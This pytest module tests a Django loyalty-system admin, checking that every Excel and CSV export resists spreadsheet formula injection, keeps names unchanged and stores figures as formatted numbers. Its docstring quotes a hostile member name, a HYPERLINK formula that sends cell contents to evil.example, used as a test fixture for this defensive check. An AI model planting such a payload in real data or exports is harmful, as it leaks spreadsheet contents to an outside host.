"""Every export, walked (issue 20, "Exports are safe and exact"): with a member named
`=HYPERLINK("http://evil.example/?x="&A1,"点击")` (opened at a till), and a store, a staff member,
a template, a segment and a campaign whose names begin with + - @, every file the admin hands
out is found by crawling the admin (tests/export_walk.py), opened with openpyxl or csv, and
held to three promises:

- no cell is a formula (xlsx: no cell of type "f"; CSV: no field begins with = + - @, a tab or
  a carriage return: such a field carries a leading ' instead);
- the names are exported as they are (the text unchanged; in a CSV after the leading ');
- numbers are numbers: no text cell that reads as a number ("1,100", "169.83", "¥5", "12%")
  but in an identifier column (core.excel.is_identifier_header: phones, card / member /
  employee numbers, receipts, codes, stores), and every number has a number format.
"""

from collections import defaultdict
from pprint import pformat

import pytest

from core.excel import FORMULA_STARTS, is_identifier_header, looks_numeric
from tests.export_walk import HOSTILE, HOSTILE_TEXTS, NOT_OPENED, walk_everything

# The walk sets up its own data (and rolls it back); the mark makes pytest-django create the
# test database for this module.
pytestmark = pytest.mark.django_db

# What the walk must find: (the export's name in the walk, the file type). The test fails on
# an export it finds that is not named here, so a new export is added to this list (and so to
# the report of what the walk covers) the day it appears.
EXPECTED_EXPORTS = {
    ("members_member_export", "xlsx"),  # 会员 › 导出 (the list as filtered)
    ("action members.Member.export_selected", "xlsx"),  # 会员 › 导出所选会员
    ("action members.CardBatch.export_cards", "xlsx"),  # 批量开卡 › 导出卡号
    ("members_importjob_template", "xlsx"),  # 会员导入 › 下载模板
    ("members_importjob_report", "xlsx"),  # 会员导入 › 错误报告 (a scoped download view)
    ("members_bulkjob_report", "xlsx"),  # 批量任务 (从 Excel 发放积分) › 错误报告
    ("stores_staff_export xlsx", "xlsx"),  # 员工 › 导出 (django-import-export)
    ("stores_staff_export csv", "csv"),
    ("wallet_liability?format", "xlsx"),  # 储值负债
    ("wallet_flows?format", "xlsx"),  # 储值流水
    ("coupons_coupon_export", "xlsx"),  # 优惠券 › 导出
    ("action coupons.CouponTemplate.print_selected", "xlsx"),  # 优惠券模板 › 印制券码
    ("campaigns_segment_export", "xlsx"),  # 人群 › 导出会员
    ("campaigns_campaign_report_export", "xlsx"),  # 营销活动 › 报告 › 导出
    *(
        (f"reports_report/{slug}?format", "xlsx")
        for slug in (
            "sales-by-store", "points-liability", "stored-value", "settlement", "tier-advice",
            "recharge-advice", "points-expiring",
        )
    ),  # fmt: skip  # the reports menu, each report's 导出 Excel
    ("reports_report/settlement?statement", "xlsx"),  # 对账单 of a franchise store
}


@pytest.fixture(scope="module")
def walk(django_db_setup, django_db_blocker):
    """One walk for the module (about a minute): its data is rolled back before any test of
    the module runs; the tests read the files it opened."""
    with django_db_blocker.unblock():
        return walk_everything()


def test_the_walk_finds_every_export_and_opens_every_admin_url(walk):
    from tests.admin_walk import admin_urls_without_args

    found = {(export.name, export.kind) for export in walk.exports}
    assert not found - EXPECTED_EXPORTS, "not in EXPECTED_EXPORTS:\n" + pformat(
        found - EXPECTED_EXPORTS
    )
    assert not EXPECTED_EXPORTS - found, "the walk no longer reaches:\n" + pformat(
        EXPECTED_EXPORTS - found
    )
    assert walk.failures == []
    named = {name for name, _url in admin_urls_without_args()}
    assert not named - walk.opened_names - set(NOT_OPENED), "admin URLs never opened:\n" + (
        pformat(named - walk.opened_names - set(NOT_OPENED))
    )


def test_no_cell_of_any_export_is_a_formula(walk):
    formulas = [
        (export.name, cell.sheet, cell.coordinate, cell.value)
        for export in walk.exports
        for cell in export.cells
        if cell.data_type == "f"
        or (cell.data_type == "csv" and str(cell.value).startswith(FORMULA_STARTS))
    ]
    assert not formulas, f"{len(formulas)} formula cells:\n" + pformat(formulas, width=120)


def test_names_that_begin_a_formula_are_exported_as_they_are(walk):
    """The text of a name is kept: the same string in an .xlsx (a text cell), after a single
    quote in a CSV; no export shows a name altered (say, its "=" dropped)."""
    altered, shown = [], defaultdict(set)
    for export in walk.exports:
        for value in export.texts():
            for hostile in HOSTILE_TEXTS:
                # A fragment of the name without its first character: the name altered.
                if hostile[1:12] in value and hostile not in value:
                    altered.append((export.name, value))
                if hostile in value:
                    shown[export.name].add(value)
            if export.kind == "csv" and value.startswith("'"):
                assert value[1:] in HOSTILE_TEXTS, (export.name, value)
    assert not altered, pformat(altered)
    carrying_the_member = {name for name, values in shown.items()
                           if any(HOSTILE in v for v in values)}  # fmt: skip
    assert carrying_the_member >= EXPORTS_OF_THE_MEMBER, pformat(
        EXPORTS_OF_THE_MEMBER - carrying_the_member
    )
    csv_cells = {v for e in walk.exports if e.kind == "csv" for v in e.texts()}
    assert "'" + "-2+3 店员" in csv_cells


# The exports that list the member (the test checks the name is there, as it is).
EXPORTS_OF_THE_MEMBER = {
    "members_member_export",
    "action members.Member.export_selected",
    "members_importjob_report",
    "members_bulkjob_report",
    "coupons_coupon_export",
    "action coupons.CouponTemplate.print_selected",
    "campaigns_segment_export",
    "campaigns_campaign_report_export",
    "reports_report/points-expiring?format",
}


def test_every_figure_of_every_export_is_a_number_with_a_format(walk):
    numeric_text, unformatted = [], []
    for export in walk.exports:
        if export.kind == "csv":
            continue  # a CSV has only text
        for cell in export.cells:
            where = (export.name, cell.sheet, cell.coordinate, cell.header, cell.value)
            if isinstance(cell.value, str):
                if looks_numeric(cell.value) and not is_identifier_header(cell.header):
                    numeric_text.append(where)
            elif (
                isinstance(cell.value, int | float)
                and not isinstance(cell.value, bool)
                and cell.number_format == "General"
            ):
                unformatted.append(where)
    assert not numeric_text, f"{len(numeric_text)} numbers written as text:\n" + pformat(
        numeric_text, width=120
    )
    assert not unformatted, f"{len(unformatted)} numbers without a format:\n" + pformat(
        unformatted, width=120
    )


def test_a_name_with_a_control_character_is_exported_instead_of_failing_the_export(
    client, chain, head_office
):
    """A till may send a name with a control character (a scanner's bell, \\x07) that an .xlsx
    cannot hold; the export shows it as � instead of failing for everyone."""
    from io import BytesIO

    from django.urls import reverse
    from openpyxl import load_workbook

    from stores.services import create_terminal
    from tests.api.conftest import post, till_client

    _terminal, key = create_terminal(store_code="SH001", code="POS08")
    opened = post(till_client(key), "/api/v1/members", {"phone": "13912340009",
                                                        "name": "张\x07三"})  # fmt: skip
    client.force_login(head_office)

    response = client.get(reverse("admin:members_member_export"))

    assert opened.status_code == 201
    assert response.status_code == 200
    names = [row[1] for row in load_workbook(BytesIO(response.content)).active.iter_rows(
        min_row=2, values_only=True)]  # fmt: skip
    assert names == ["张\ufffd三"]
